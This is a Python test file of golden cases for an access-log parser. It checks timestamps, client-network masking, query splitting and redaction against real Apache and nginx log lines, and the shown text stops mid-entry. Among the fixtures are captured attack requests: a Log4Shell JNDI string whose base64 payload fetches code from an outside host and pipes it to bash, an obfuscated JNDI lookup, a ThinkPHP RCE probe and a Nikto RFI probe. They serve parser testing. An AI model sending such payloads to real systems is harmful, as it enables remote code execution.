"""Golden tests: real access-log lines → exact pageview rows (or a reject with its reason).

Every line in the tables is copied verbatim from the third-party logs under tests/data/third_party/logs/
(file and line number in the comment above it). The expected rows were worked out by hand from the
format semantics, not copied from the parser's output:

* ``ts`` is the logged local time converted to UTC with the line's own offset;
* ``client_net`` is the client address truncated to /24 (IPv4) or /48 (IPv6); hostnames → None;
* the request target is split at the first ``?`` into ``path`` and ``query``;
* ``-`` (missing value) → None; ``domain`` is the vhost lower-cased without ``:port``;
* free text (path, query, referrer, user agent) has IP-looking tokens replaced by their network and
  sensitive query parameter values replaced by ``REDACTED``.
"""

from __future__ import annotations

import dataclasses
import ipaddress
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.config import DEFAULT_SENSITIVE_PARAMS
from pipeline.ingest.formats import resolve
from pipeline.ingest.lines import split_block
from pipeline.ingest.rows import ParsedBatch, ParseSettings, parse_lines
from pipeline.privacy import mask as privacy
from tests.conftest import cases

MAX_LINE = 65536
COLUMNS = (
    "ts",
    "domain",
    "method",
    "path",
    "query",
    "protocol",
    "status",
    "bytes",
    "referrer",
    "user_agent",
    "client_net",
    "client_id",
    "country",
    "asn",
    "as_org",
    "geo_db",
    "server",
    "peer_net",
    "request_id",
    "tls",
    "upstream",
    "edge_location",
)  # fmt: skip  (the parser leaves the enrichment columns null; ingest fills them)

# A custom LogFormat for nginx lines whose "$remote_addr" slot holds an X-Forwarded-For list
# ("<client>, <proxy> <remote_addr> - - [...]"): %h is the original client, the rest is not stored.
XFF_LIST_FORMAT = '%h, %{X-Forwarded-For}i %a %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"'


def parse_block(block: bytes, fmt: str, domain: str | None = None) -> ParsedBatch:
    settings = ParseSettings(
        domain=domain,
        server="web1",
        sensitive_param_regex=privacy.sensitive_param_regex(DEFAULT_SENSITIVE_PARAMS),
    )
    return parse_lines(split_block(block, 0, MAX_LINE), resolve(fmt), settings, privacy.ClientMasker())


def parse_one(line: str | bytes, fmt: str, domain: str | None = None) -> dict[str, Any] | str:
    """The row dict of a single line, or the reject reason when the line is not a row."""
    raw = line if isinstance(line, bytes) else line.encode()
    batch = parse_block(raw + b"\n", fmt, domain)
    assert batch.lines == 1
    assert batch.rows.height + batch.rejects.height == 1
    if batch.rows.height:
        return batch.rows.to_dicts()[0]
    return str(batch.rejects.get_column("reason")[0])


def utc(y: int, mo: int, d: int, h: int, mi: int, s: int) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=UTC)


def row(**fields: Any) -> dict[str, Any]:
    """An expected row: every column present; unspecified optional columns are None."""
    unknown = set(fields) - set(COLUMNS)
    assert not unknown, unknown
    out: dict[str, Any] = dict.fromkeys(COLUMNS)
    out["server"] = "web1"
    out.update(fields)
    if "peer_net" not in fields:  # Apache formats log the peer, no forwarding chain: the same network
        out["peer_net"] = out["client_net"]
    return out


GOLDEN = [
    # ---------------- elastic-apache/apache_logs (combined, +0000) ----------------
    pytest.param(
        "combined",
        # apache_logs:1
        '83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"',
        row(
            ts=utc(2015, 5, 17, 10, 5, 3),
            method="GET",
            path="/presentations/logstash-monitorama-2013/images/kibana-search.png",
            protocol="HTTP/1.1",
            status=200,
            bytes=203023,
            referrer="http://semicomplete.com/presentations/logstash-monitorama-2013/",
            user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/32.0.1700.77 Safari/537.36",
            client_net="83.149.9.0/24",
        ),
        id="elastic-1-plain",
    ),
    pytest.param(
        "combined",
        # apache_logs:77 — bytes '-' and no referrer
        '218.30.103.62 - - [17/May/2015:11:05:11 +0000] "GET /robots.txt HTTP/1.1" 200 - "-" "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"',
        row(
            ts=utc(2015, 5, 17, 11, 5, 11),
            method="GET",
            path="/robots.txt",
            protocol="HTTP/1.1",
            status=200,
            bytes=None,
            user_agent="Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
            client_net="218.30.103.0/24",
        ),
        id="elastic-77-bytes-dash",
    ),
    pytest.param(
        "combined",
        # apache_logs:63 — query string that itself looks like a path
        '66.249.73.185 - - [17/May/2015:10:05:22 +0000] "GET /doc/index.html?org/elasticsearch/action/search/SearchResponse.html HTTP/1.1" 404 294 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',
        row(
            ts=utc(2015, 5, 17, 10, 5, 22),
            method="GET",
            path="/doc/index.html",
            query="org/elasticsearch/action/search/SearchResponse.html",
            protocol="HTTP/1.1",
            status=404,
            bytes=294,
            user_agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            client_net="66.249.73.0/24",
        ),
        id="elastic-63-query",
    ),
    pytest.param(
        "combined",
        # apache_logs:32 — query string in the request and in the referrer
        '50.16.19.13 - - [17/May/2015:10:05:10 +0000] "GET /blog/tags/puppet?flav=rss20 HTTP/1.1" 200 14872 "http://www.semicomplete.com/blog/tags/puppet?flav=rss20" "Tiny Tiny RSS/1.11 (http://tt-rss.org/)"',
        row(
            ts=utc(2015, 5, 17, 10, 5, 10),
            method="GET",
            path="/blog/tags/puppet",
            query="flav=rss20",
            protocol="HTTP/1.1",
            status=200,
            bytes=14872,
            referrer="http://www.semicomplete.com/blog/tags/puppet?flav=rss20",
            user_agent="Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
            client_net="50.16.19.0/24",
        ),
        id="elastic-32-query-and-referrer-query",
    ),
    pytest.param(
        "combined",
        # apache_logs:1141 — HEAD, HTTP/1.0, bytes '-', referrer and user agent '-'
        '81.198.20.11 - - [17/May/2015:19:05:04 +0000] "HEAD /favicon.ico HTTP/1.0" 200 - "-" "-"',
        row(
            ts=utc(2015, 5, 17, 19, 5, 4),
            method="HEAD",
            path="/favicon.ico",
            protocol="HTTP/1.0",
            status=200,
            client_net="81.198.20.0/24",
        ),
        id="elastic-1141-head-all-dashes",
    ),
    pytest.param(
        "combined",
        # apache_logs:5851 — Apache \xNN escapes (cp1251 bytes) in the referrer are plain text
        r'201.242.142.135 - - [19/May/2015:11:05:10 +0000] "GET /files/logstash/ HTTP/1.0" 200 13316 "http://\xe4\xe5\xe3\xf2\xff\xf0\xed\xee\xe5-\xec\xfb\xeb\xee.\xf0\xf4/" "Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0"',
        row(
            ts=utc(2015, 5, 19, 11, 5, 10),
            method="GET",
            path="/files/logstash/",
            protocol="HTTP/1.0",
            status=200,
            bytes=13316,
            referrer=r"http://\xe4\xe5\xe3\xf2\xff\xf0\xed\xee\xe5-\xec\xfb\xeb\xee.\xf0\xf4/",
            user_agent="Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0",
            client_net="201.242.142.0/24",
        ),
        id="elastic-5851-escaped-referrer",
    ),
    pytest.param(
        "combined",
        # apache_logs:8605 — '?' run in the target: the query starts at the first '?' and keeps the rest
        '144.76.95.39 - - [20/May/2015:09:05:04 +0000] "GET /articles/ssh-???????????????????/ HTTP/1.0" 404 7861 "-" "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)"',
        row(
            ts=utc(2015, 5, 20, 9, 5, 4),
            method="GET",
            path="/articles/ssh-",
            query="?" * 18 + "/",
            protocol="HTTP/1.0",
            status=404,
            bytes=7861,
            user_agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)",
            client_net="144.76.95.0/24",
        ),
        id="elastic-8605-question-mark-run",
    ),
    # ---------------- basjes-hackers/hackers-access.log (combined, +0100) ----------------
    pytest.param(
        "combined",
        # hackers-access.log:1
        '195.154.46.135 - - [25/Oct/2015:04:11:25 +0100] "GET /linux/doing-pxe-without-dhcp-control HTTP/1.1" 200 24323 "http://howto.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',
        row(
            ts=utc(2015, 10, 25, 3, 11, 25),
            method="GET",
            path="/linux/doing-pxe-without-dhcp-control",
            protocol="HTTP/1.1",
            status=200,
            bytes=24323,
            referrer="http://howto.basjes.nl/",
            user_agent="Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0",
            client_net="195.154.46.0/24",
        ),
        id="basjes-1",
    ),
    pytest.param(
        "combined",
        # hackers-access.log:2579 — IPv6 client; the UA has a dotted quad "Dragon/36.1.1.21" that is
        # indistinguishable from an IPv4 address, so by the masking policy it is masked too.
        '2001:41d0:8:f69::1 - - [29/Oct/2015:06:47:38 +0100] "POST /join_form HTTP/1.1" 302 10170 "http://niels.basjes.nl/join_form" "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Dragon/36.1.1.21 Chrome/36.0.1985.97 Safari/537.36"',
        row(
            ts=utc(2015, 10, 29, 5, 47, 38),
            method="POST",
            path="/join_form",
            protocol="HTTP/1.1",
            status=302,
            bytes=10170,
            referrer="http://niels.basjes.nl/join_form",
            user_agent="Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Dragon/36.1.1.0/24 Chrome/36.0.1985.97 Safari/537.36",
            client_net="2001:41d0:8::/48",
        ),
        id="basjes-2579-ipv6-client",
    ),
    pytest.param(
        "combined",
        # hackers-access.log:163 — registration bot: the e-mail parameter value must be redacted
        '103.27.239.39 - - [25/Oct/2015:10:52:44 +0100] "GET /acl_users/credentials_cookie_auth/require_login?came_from=http%3A//niels.basjes.nl/join_form&last_visit:date=2015%2F10%2F13+18%3A31%3A02.492+GMT%2B2&prev_visit:date=2015%2F10%2F13+18%3A31%3A02.493+GMT%2B2&came_from_prefs=&fullname=Eileen+Coe&username=EileenCoe&email=t.h.u.c.d.v2016%40gmail.com&form.button.Register=Register&form.submitted=1 HTTP/1.1" 200 19089 "http://niels.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',
        row(
            ts=utc(2015, 10, 25, 9, 52, 44),
            method="GET",
            path="/acl_users/credentials_cookie_auth/require_login",
            query="came_from=http%3A//niels.basjes.nl/join_form"
            "&last_visit:date=2015%2F10%2F13+18%3A31%3A02.492+GMT%2B2"
            "&prev_visit:date=2015%2F10%2F13+18%3A31%3A02.493+GMT%2B2"
            "&came_from_prefs=&fullname=Eileen+Coe&username=EileenCoe&email=REDACTED"
            "&form.button.Register=Register&form.submitted=1",
            protocol="HTTP/1.1",
            status=200,
            bytes=19089,
            referrer="http://niels.basjes.nl/",
            user_agent="Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0",
            client_net="103.27.239.0/24",
        ),
        id="basjes-163-email-param-redacted",
    ),
    # ---------------- nasa-http-1995 (common, -0400, hostnames) ----------------
    pytest.param(
        "common",
        # NASA_access_log_Aug95.first20000.log:1 — hostname client
        'in24.inetnebr.com - - [01/Aug/1995:00:00:01 -0400] "GET /shuttle/missions/sts-68/news/sts-68-mcc-05.txt HTTP/1.0" 200 1839',
        row(
            ts=utc(1995, 8, 1, 4, 0, 1),
            method="GET",
            path="/shuttle/missions/sts-68/news/sts-68-mcc-05.txt",
            protocol="HTTP/1.0",
            status=200,
            bytes=1839,
            client_net=None,
        ),
        id="nasa-1-hostname",
    ),
    pytest.param(
        "common",
        # NASA_access_log_Aug95.first20000.log:15 — IPv4 client
        '133.43.96.45 - - [01/Aug/1995:00:00:16 -0400] "GET /shuttle/missions/sts-69/mission-sts-69.html HTTP/1.0" 200 10566',
        row(
            ts=utc(1995, 8, 1, 4, 0, 16),
            method="GET",
            path="/shuttle/missions/sts-69/mission-sts-69.html",
            protocol="HTTP/1.0",
            status=200,
            bytes=10566,
            client_net="133.43.96.0/24",
        ),
        id="nasa-15-ipv4",
    ),
    pytest.param(
        "common",
        # NASA_access_log_Aug95.first20000.log:159 — bytes '-'
        'gw1.att.com - - [01/Aug/1995:00:03:53 -0400] "GET /shuttle/missions/sts-73/news HTTP/1.0" 302 -',
        row(
            ts=utc(1995, 8, 1, 4, 3, 53),
            method="GET",
            path="/shuttle/missions/sts-73/news",
            protocol="HTTP/1.0",
            status=302,
            bytes=None,
        ),
        id="nasa-159-bytes-dash",
    ),
    pytest.param(
        "common",
        # NASA_access_log_Aug95.first20000.log:421 — HTTP/0.9-style request: no protocol
        'pipe1.nyc.pipeline.com - - [01/Aug/1995:00:12:37 -0400] "GET /history/apollo/apollo-13/apollo-13-patch-small.gif" 200 12859',
        row(
            ts=utc(1995, 8, 1, 4, 12, 37),
            method="GET",
            path="/history/apollo/apollo-13/apollo-13-patch-small.gif",
            protocol=None,
            status=200,
            bytes=12859,
        ),
        id="nasa-421-no-protocol",
    ),
    pytest.param(
        "common",
        # NASA_access_log_Aug95.first20000.log:5218 — run of spaces before the protocol
        'macip-dialup-060.cisco.com - - [01/Aug/1995:03:58:23 -0400] "GET /facts/internet/bdgtti-1.01.html   HTTP/1.0" 200 344064',
        row(
            ts=utc(1995, 8, 1, 7, 58, 23),
            method="GET",
            path="/facts/internet/bdgtti-1.01.html",
            protocol="HTTP/1.0",
            status=200,
            bytes=344064,
        ),
        id="nasa-5218-space-run",
    ),
    # ---------------- lnav-tests/logfile_shop_access_log.0 (nginx combined + "-", +0330) ----------------
    pytest.param(
        "combined",
        # logfile_shop_access_log.0:1 — +0330 offset, trailing "$http_x_forwarded_for" field "-"
        '54.36.149.41 - - [22/Jan/2019:03:56:14 +0330] "GET /filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,27|%DA%A9%D9%85%D8%AA%D8%B1%20%D8%A7%D8%B2%205%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,p53 HTTP/1.1" 200 30577 "-" "Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)" "-"',
        row(
            ts=utc(2019, 1, 22, 0, 26, 14),
            method="GET",
            path="/filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,27|%DA%A9%D9%85%D8%AA"
            "%D8%B1%20%D8%A7%D8%B2%205%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,p53",
            protocol="HTTP/1.1",
            status=200,
            bytes=30577,
            user_agent="Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)",
            client_net="54.36.149.0/24",
        ),
        id="shop-1-plus0330",
    ),
    pytest.param(
        "combined",
        # logfile_shop_access_log.0:26 — query string, trailing "-"
        '178.253.33.51 - - [22/Jan/2019:03:56:21 +0330] "GET /image/32574?name=pr465at.jpg&wh=max HTTP/1.1" 200 28825 "https://www.zanbil.ir/m/product/32574/62991/%D9%85%D8%A7%D8%B4%DB%8C%D9%86-%D8%A7%D8%B5%D9%84%D8%A7%D8%AD-%D8%B5%D9%88%D8%B1%D8%AA-%D9%BE%D8%B1%D9%86%D8%B3%D9%84%DB%8C-%D9%85%D8%AF%D9%84-PR465AT" "Mozilla/5.0 (Linux; Android 5.1; HTC Desire 728 dual sim) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.83 Mobile Safari/537.36" "-"',
        row(
            ts=utc(2019, 1, 22, 0, 26, 21),
            method="GET",
            path="/image/32574",
            query="name=pr465at.jpg&wh=max",
            protocol="HTTP/1.1",
            status=200,
            bytes=28825,
            referrer="https://www.zanbil.ir/m/product/32574/62991/%D9%85%D8%A7%D8%B4%DB%8C%D9%86-%D8%A7%D8%B5"
            "%D9%84%D8%A7%D8%AD-%D8%B5%D9%88%D8%B1%D8%AA-%D9%BE%D8%B1%D9%86%D8%B3%D9%84%DB%8C-%D9%85%D8%AF"
            "%D9%84-PR465AT",
            user_agent="Mozilla/5.0 (Linux; Android 5.1; HTC Desire 728 dual sim) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/71.0.3578.83 Mobile Safari/537.36",
            client_net="178.253.33.0/24",
        ),
        id="shop-26-query",
    ),
    # ---------------- beats-filebeat-tests ----------------
    pytest.param(
        "combined",
        # apache-access-test.log:1 — '::1', common-format line inside a combined log
        '::1 - - [26/Dec/2016:16:16:29 +0200] "GET /favicon.ico HTTP/1.1" 404 209',
        row(
            ts=utc(2016, 12, 26, 14, 16, 29),
            method="GET",
            path="/favicon.ico",
            protocol="HTTP/1.1",
            status=404,
            bytes=209,
            client_net="::/48",
        ),
        id="beats-apache-1-loopback-v6",
    ),
    pytest.param(
        "combined",
        # apache-access-test.log:3 — request "-" (timeout), 408, bytes '-'
        '::1 - - [26/Dec/2016:16:16:48 +0200] "-" 408 -',
        row(ts=utc(2016, 12, 26, 14, 16, 48), status=408, client_net="::/48"),
        id="beats-apache-3-request-dash-408",
    ),
    pytest.param(
        "vhost_combined",
        # apache-access-test.log:7 — vhost without ":port"
        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 Safari/537.36"',
        row(
            ts=utc(2019, 7, 4, 7, 20, 46),
            domain="vhost1.domaine.fr",
            method="GET",
            path="/",
            protocol="HTTP/1.1",
            status=200,
            bytes=32953,
            user_agent="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/75.0.3770.100 Safari/537.36",
            client_net="123.123.123.0/24",
        ),
        id="beats-apache-7-vhost-no-port",
    ),
    pytest.param(
        "vhost_combined",
        # apache-access-test-vhost.log:1 (the file has no final newline) — UA with two spaces
        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.  3770.100 Safari/537.36"',
        row(
            ts=utc(2019, 7, 4, 7, 20, 46),
            domain="vhost1.domaine.fr",
            method="GET",
            path="/",
            protocol="HTTP/1.1",
            status=200,
            bytes=32953,
            user_agent="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/75.0.  3770.100 Safari/537.36",
            client_net="123.123.123.0/24",
        ),
        id="beats-apache-vhost-two-spaces-ua",
    ),
    pytest.param(
        "vhost_combined",
        # nginx-access-test-with-host.log:4 — nginx "$host:$server_port" = example.com:80
        'example.com:80 81.2.69.143 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36"',
        row(
            ts=utc(2016, 12, 7, 10, 5, 7),
            domain="example.com",
            method="GET",
            path="/ocelot",
            protocol="HTTP/1.1",
            status=200,
            bytes=571,
            user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_0) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/70.0.3538.102 Safari/537.36",
            client_net="81.2.69.0/24",
        ),
        id="beats-nginx-host-example-com-80",
    ),
    pytest.param(
        "vhost_combined",
        # nginx-access-test-with-host.log:8 — client "unix:" (unix socket) is not an address; junk request
        'example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "hello" 400 173 "-" "-"',
        row(
            ts=utc(2019, 2, 26, 14, 39, 42),
            domain="example.com",
            path="hello",
            status=400,
            bytes=173,
            client_net=None,
        ),
        id="beats-nginx-host-unix-socket",
    ),
    pytest.param(
        XFF_LIST_FORMAT,
        # nginx-access-test.log:6 — non-canonical IPv6 client at the head of an X-Forwarded-For list
        '2a03:0000:10ff:f00f:0000:0000:0:8000, 10.225.192.17 10.2.2.121 - - [30/Dec/2016:06:47:09 +0000] "GET /test.html HTTP/1.1" 404 8571 "-" "Mozilla/5.0 (compatible; Facebot 1.0; https://developers.facebook.com/docs/sharing/webmasters/crawler)"',
        row(
            ts=utc(2016, 12, 30, 6, 47, 9),
            method="GET",
            path="/test.html",
            protocol="HTTP/1.1",
            status=404,
            bytes=8571,
            user_agent="Mozilla/5.0 (compatible; Facebot 1.0; "
            "https://developers.facebook.com/docs/sharing/webmasters/crawler)",
            client_net="2a03:0:10ff::/48",
        ),
        id="beats-nginx-6-noncanonical-ipv6",
    ),
    # ---------------- crowdsec-hub-tests ----------------
    pytest.param(
        "combined",
        # apache2-malformed__apache2-logs.log:1 — TLS ClientHello on port 80, logged as escaped text; +1100
        r'1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "\x16\x03\x01\x01 \x02" 400 226 "-" "-"',
        row(
            ts=utc(2023, 10, 16, 18, 57, 49),
            method=None,
            path=r"\x16\x03\x01\x01 \x02",
            protocol=None,
            status=400,
            bytes=226,
            client_net="1.2.3.0/24",
        ),
        id="crowdsec-apache-tls-hello",
    ),
    pytest.param(
        "combined",
        # nginx-http-malformed__nginx_http-logs.log:8 — longer TLS ClientHello, -0700
        r'1.2.3.4 - - [29/Jul/2023:10:26:07 -0700] "\x16\x03\x01\x00t\x01\x00\x00p\x03\x01YF}\xF6\x7F3\xD3\xA2'
        r"'O\xAE\xB6\x041p\x87F\xE5\xA6\xA2\x18\xD1\x0B}\x0C\x9FO)u\xFE\xB1\xD9\x00\x00\x18\xC0\x14\xC0\x13"
        r'\x005\x00/\xC0" 400 157 "-" "-"',
        row(
            ts=utc(2023, 7, 29, 17, 26, 7),
            method=None,
            path=r"\x16\x03\x01\x00t\x01\x00\x00p\x03\x01YF}\xF6\x7F3\xD3\xA2'O\xAE\xB6\x041p\x87F\xE5\xA6"
            r"\xA2\x18\xD1\x0B}\x0C\x9FO)u\xFE\xB1\xD9\x00\x00\x18\xC0\x14\xC0\x13\x005\x00/\xC0",
            protocol=None,
            status=400,
            bytes=157,
            client_net="1.2.3.0/24",
        ),
        id="crowdsec-nginx-tls-hello",
    ),
    pytest.param(
        "combined",
        # nginx-http-malformed__nginx_http-logs.log:5 — a bare word as request line
        '1.2.3.4 - - [29/Jul/2023:10:26:06 -0700] "HELP" 400 157 "-" "-"',
        row(
            ts=utc(2023, 7, 29, 17, 26, 6),
            path="HELP",
            status=400,
            bytes=157,
            client_net="1.2.3.0/24",
        ),
        id="crowdsec-nginx-help",
    ),
    pytest.param(
        "combined",
        # apache_log4j2_cve-2021-44228…log:1 — JNDI user agent; the LDAP host IP inside it is masked,
        # and in its base64 payload, "(curl -s 45.155.205.233:5874/82.64.145.141:443||wget …)|bash", too
        '192.168.1.3 - - [10/Dec/2021:14:25:38 +0000] "GET / HTTP/1.1" 401 157 "-" "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA==}"',
        row(
            ts=utc(2021, 12, 10, 14, 25, 38),
            method="GET",
            path="/",
            protocol="HTTP/1.1",
            status=401,
            bytes=157,
            user_agent="${jndi:ldap://45.155.205.0/24:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4wLzI0"
            "OjU4NzQvODIuNjQuMTQ1LjAvMjQ6NDQzfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjAvMjQ6NTg3NC84Mi42NC4xNDUuMC8yNDo0"
            "NDMpfGJhc2g=}",
            client_net="192.168.1.0/24",
        ),
        id="crowdsec-jndi-ua",
    ),
    pytest.param(
        "combined",
        # apache_log4j2_cve-2021-44228…log:3 — obfuscated JNDI lookup in the referrer
        '192.168.1.5 - - [12/Dec/2021:05:06:43 +0000] "GET / HTTP/1.1" 200 396 "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"',
        row(
            ts=utc(2021, 12, 12, 5, 6, 43),
            method="GET",
            path="/",
            protocol="HTTP/1.1",
            status=200,
            bytes=396,
            referrer="${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
            user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/78.0.3904.108 Safari/537.36",
            client_net="192.168.1.0/24",
        ),
        id="crowdsec-jndi-referrer",
    ),
    pytest.param(
        "combined",
        # http-wordpress-scan__http-wordpress-scan.log:7 — HTTP/2.0, HEAD, query, +1100 (previous UTC day)
        '192.168.1.1 - - [01/Mar/2025:18:09:53 +1100] "HEAD /wp-content/plugins/blocksy-companion/README.md?cache=false HTTP/2.0" 404 0 "https://example.com" "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.6 (KHTML, like Gecko) Chrome/20.0.1092.0 Safari/536.6"',
        row(
            ts=utc(2025, 3, 1, 7, 9, 53),
            method="HEAD",
            path="/wp-content/plugins/blocksy-companion/README.md",
            query="cache=false",
            protocol="HTTP/2.0",
            status=404,
            bytes=0,
            referrer="https://example.com",
            user_agent="Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.6 (KHTML, like Gecko) "
            "Chrome/20.0.1092.0 Safari/536.6",
            client_net="192.168.1.0/24",
        ),
        id="crowdsec-http2",
    ),
    pytest.param(
        "combined",
        # ipv6-postoverflow__ipv6-postoverflow.log:1 — fully written-out IPv6 client
        '2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [29/Sep/2021:14:11:34 +0200] "HEAD / HTTP/1.1" 200 0 "-" "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"',
        row(
            ts=utc(2021, 9, 29, 12, 11, 34),
            method="HEAD",
            path="/",
            protocol="HTTP/1.1",
            status=200,
            bytes=0,
            user_agent="Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
            client_net="2001:db8:85a3::/48",
        ),
        id="crowdsec-ipv6-long-form",
    ),
    pytest.param(
        "combined",
        # thinkphp-cve-2018-20062__thinkphp-cve-2018-20062.log:5 — the PHP payload after a second '?' is
        # part of the query (evidence of the exploit attempt)
        '192.168.1.5 - - [10/Dec/2021:14:41:40 +0100] "GET /?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E HTTP/1.1" 200 3543 "-" "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36"',
        row(
            ts=utc(2021, 12, 10, 13, 41, 40),
            method="GET",
            path="/",
            query="s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E",
            protocol="HTTP/1.1",
            status=200,
            bytes=3543,
            user_agent="Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/70.0.3538.102 Safari/537.36",
            client_net="192.168.1.0/24",
        ),
        id="crowdsec-thinkphp-second-question-mark",
    ),
    pytest.param(
        "combined",
        # apache-http-probing__apache-http-probing.log:7 — Nikto RFI probe, common-format line:
        # "&cmd=ls" after the "??" is still part of the query
        '172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] "GET /stats.php?vwar_root=http://cirt.net/rfiinc.txt??&cmd=ls HTTP/1.1" 404 196',
        row(
            ts=utc(2021, 9, 29, 12, 37, 5),
            method="GET",
            path="/stats.php",
            query="vwar_root=http://cirt.net/rfiinc.txt??&cmd=ls",
            protocol="HTTP/1.1",
            status=404,
            bytes=196,
            client_net="172.17.0.0/24",
        ),
        id="crowdsec-nikto-rfi-double-question-mark",
    ),
    # ---------------- apachelogs-tests/vhost_combined.log ----------------
    pytest.param(
        "vhost_combined",
        # vhost_combined.log:1
        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:20 +0000] "GET / HTTP/1.1" 301 577 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',
        row(
            ts=utc(2019, 5, 6, 6, 28, 20),
            domain="www.varonathe.org",
            method="GET",
            path="/",
            protocol="HTTP/1.1",
            status=301,
            bytes=577,
            user_agent="Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0",
            client_net="203.62.1.0/24",
        ),
        id="apachelogs-1",
    ),
    pytest.param(
        "vhost_combined",
        # vhost_combined.log:3 — POST to a scanner target
        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "POST /App6079ec68.php HTTP/1.1" 301 606 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',
        row(
            ts=utc(2019, 5, 6, 6, 28, 21),
            domain="www.varonathe.org",
            method="POST",
            path="/App6079ec68.php",
            protocol="HTTP/1.1",
            status=301,
            bytes=606,
